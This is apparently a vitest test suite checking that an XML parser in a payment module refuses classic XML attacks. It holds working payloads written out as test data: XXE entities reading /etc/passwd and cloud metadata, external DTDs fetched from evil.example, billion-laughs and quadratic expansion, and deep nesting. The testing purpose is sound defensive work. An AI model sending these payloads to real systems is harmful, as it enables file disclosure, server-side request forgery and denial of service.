import { describe, expect, it } from 'vitest';
import { WxPayXmlError } from '../src/wxpay/errors';
import { parseXml } from '../src/wxpay/xml-codec';

/*
 * The classic XML attack payloads against parseXml: every one is refused with a stable code, or
 * read as plain, bounded data. No timing assertions (a test is not a benchmark): a payload that
 * expanded or went quadratic would show up as a hung test.
 */

function codeOf(xml: string): string {
  try {
    parseXml(xml);
  } catch (err) {
    expect(err).toBeInstanceOf(WxPayXmlError);
    return (err as WxPayXmlError).code;
  }
  return 'accepted';
}

const MB = 1_000_000;

describe('parseXml against XML attack payloads', () => {
  it('refuses internal, external and parameter entities and DTDs of every shape', () => {
    const payloads = [
      '<!DOCTYPE xml [<!ENTITY x "pwned">]><xml><a>&x;</a></xml>',
      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>',
      '<!DOCTYPE xml [<!ENTITY xxe PUBLIC "-//x//y" "http://169.254.169.254/latest/meta-data/">]><xml><a>&xxe;</a></xml>',
      '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml><a>1</a></xml>',
      '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><a>1</a></xml>',
      '<xml><!ENTITY x "y"><a>1</a></xml>',
      '<xml><a>1</a></xml><!DOCTYPE xml [<!ENTITY x "y">]>',
    ];
    for (const xml of payloads) expect(codeOf(xml), xml).toBe('XML_DOCTYPE_FORBIDDEN');
    // Without a DTD an entity reference is simply unknown.
    expect(codeOf('<xml><a>&xxe;</a></xml>')).toBe('XML_INVALID');
  });

  it('refuses the billion laughs and the quadratic blow-up before any expansion', () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 2; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 2 ? '' : i - 1};`.repeat(10)}">`);
    expect(codeOf(`<?xml version="1.0"?><!DOCTYPE lolz [${lol.join('')}]><xml><a>&lol9;</a></xml>`)).toBe('XML_DOCTYPE_FORBIDDEN');
    const big = 'x'.repeat(50_000);
    expect(codeOf(`<!DOCTYPE xml [<!ENTITY a "${big}">]><xml><a>${'&a;'.repeat(50_000)}</a></xml>`)).toBe('XML_DOCTYPE_FORBIDDEN');
    // The same references with no DTD: refused at the first one, nothing is expanded.
    expect(codeOf(`<xml><a>${'&a;'.repeat(200_000)}</a></xml>`)).toBe('XML_INVALID');
  });

  it('refuses deep nesting at the first nested element, however deep the document goes', () => {
    expect(codeOf(`<xml>${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}</xml>`)).toBe('XML_TOO_DEEP');
    expect(codeOf(`<xml><a>${'<b/>'.repeat(100_000)}</a></xml>`)).toBe('XML_TOO_DEEP');
  });

  it('reads 10 000 fields and refuses 10 000 copies of one field', () => {
    const names = Array.from({ length: 10_000 }, (_, i) => `f${String(i)}`);
    const fields = parseXml(`<xml>${names.map((n) => `<${n}><![CDATA[${n}]]></${n}>`).join('')}</xml>`);
    expect(Object.keys(fields)).toHaveLength(10_000);
    expect(codeOf(`<xml>${'<sign>A</sign>'.repeat(10_000)}</xml>`)).toBe('XML_DUPLICATE_FIELD');
  });

  it('reads a 5 MB CDATA value intact and refuses it cut short', () => {
    const value = '<&>]] '.repeat(MB / 6);
    expect(parseXml(`<xml><attach><![CDATA[${value}]]></attach></xml>`).attach).toBe(value);
    expect(codeOf(`<xml><attach><![CDATA[${value}</attach></xml>`)).toBe('XML_INVALID');
    // 5 MB of markup characters as text: refused (as nesting or as a bad name), never read.
    expect(codeOf(`<xml><attach>${'<'.repeat(5 * MB)}</attach></xml>`)).toMatch(/^XML_(TOO_DEEP|BAD_NAME)$/);
  });
});
